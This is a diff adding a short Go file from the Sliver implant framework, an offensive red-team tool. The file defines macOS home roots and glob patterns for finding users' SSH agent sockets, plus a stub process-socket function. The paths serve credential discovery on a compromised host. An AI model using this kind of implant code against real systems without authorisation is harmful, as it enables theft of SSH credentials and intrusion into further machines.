@@ -0,0 +1,35 @@
+package sshkeys
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+var (
+	homeRoots = []string{"/Users"}
+
+	// launchd starts an agent for each user on demand
+	agentSocketPatterns = []string{
+		"/private/tmp/com.apple.launchd.*/Listeners",
+		"/tmp/ssh-*/agent.*",
+	}
+)
+
+// processSockets - There's no procfs to read other process' environments from on
+// macOS, only our own SSH_AUTH_SOCK and the launchd sockets are used
+func processSockets() []agentSocket {
+	return []agentSocket{}
+}